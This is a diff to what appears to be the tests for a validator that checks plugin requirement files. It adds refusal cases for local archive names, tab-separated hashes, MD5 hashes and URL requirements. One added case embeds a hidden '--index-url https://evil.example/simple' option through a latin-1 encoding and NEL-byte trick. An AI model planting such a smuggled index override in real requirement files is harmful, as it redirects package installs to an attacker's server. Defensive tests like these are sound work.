@@ -15,6 +15,28 @@ MAIN = b"class PluginHandler:\n    def on_submit(self, label, asset_id):\n      
 SIX_HASH = "sha256:8abb2f1d86890a2dfb989f9a77cfcfd3e47c2a354b01111771326f8aa26e0254"
 INDEX_ONLY = "packages come from the operator's index only"
 ASK = "Publish the package there, or ask the operator to allow URL requirements"
+LOCAL = (
+    "plugins install packages from the index only. Write the package name and version "
+    "instead (e.g. 'requests==2.32.3')"
+)
+SPACES_ONLY = (
+    "pip splits options from a requirement at spaces only, so it would read the whole line "
+    "as one invalid requirement"
+)
+# Names pip reads as local archives (pip/_internal/utils/filetypes.py), extras or not.
+ARCHIVE_NAMES = [
+    "pkg.tar.xz",
+    "pkg.txz",
+    "pkg.tbz",
+    "pkg.tlz",
+    "pkg.tar.lz",
+    "pkg.tar.lzma",
+    "PKG.TAR.XZ",
+    "pkg.zip[extra]",
+    "pkg==1.0.zip",
+]
+# 'Å' is C3 85 in UTF-8; read as latin-1, 0x85 (NEL) ends a line: pip sees an option line.
+LATIN1_SMUGGLE = "# -*- coding: latin-1 -*-\nsix  # \u00c5--index-url https://evil.example/simple"
 
 ACCEPTED = [
     "requests",
@@ -131,6 +153,46 @@ REFUSED = [
         1,
         "'${SIX_VERSION}' asks pip to expand an environment variable, which builds never do. "
         "Write the value itself",
+    ),
+    (
+        f"six==1.16.0\t--hash={SIX_HASH}",
+        1,
+        f"'--hash' follows a tab, not a space: {SPACES_ONLY}. Put a space before '--hash'",
+    ),
+    (
+        f"six==1.16.0 \\\n\t--hash={SIX_HASH}",
+        1,
+        f"'--hash' follows a tab, not a space: {SPACES_ONLY}. Put a space before '--hash'",
+    ),
+    *[(name, 1, f"'{name}' is a local path: {LOCAL}") for name in ARCHIVE_NAMES],
+    (
+        "pkg.tar.xz ; python_version >= '3'",
+        1,
+        f"'pkg.tar.xz ; python_version >= '3'' is a local path: {LOCAL}",
+    ),
+    ("six @ foo", 1, f"the URL requirement 'foo' is not allowed: {INDEX_ONLY}. {ASK}"),
+    (
+        "six --hash=md5:d41d8cd98f00b204e9800998ecf8427e",
+        1,
+        "'--hash=md5:d41d8cd98f00b204e9800998ecf8427e' is not a hash pip accepts: write sha256, "
+        "sha384 or sha512, a colon and the hex digest",
+    ),
+    (
+        f"six --hash={SIX_HASH} evil",
+        1,
+        "'evil' after the options would be ignored by pip: only '--hash=<algorithm>:<digest>' "
+        "may follow a requirement",
+    ),
+    (
+        "six\nsix --hash='sha256:ab",
+        2,
+        "pip cannot split the options '--hash='sha256:ab' (No closing quotation). Fix the quoting",
+    ),
+    (
+        LATIN1_SMUGGLE,
+        1,
+        "the comment declares the encoding 'latin-1': pip would decode the file with it and "
+        "read other text than the UTF-8 checked here. Remove the declaration or declare utf-8",
     ),
     (
         "six\nnot a requirement!",
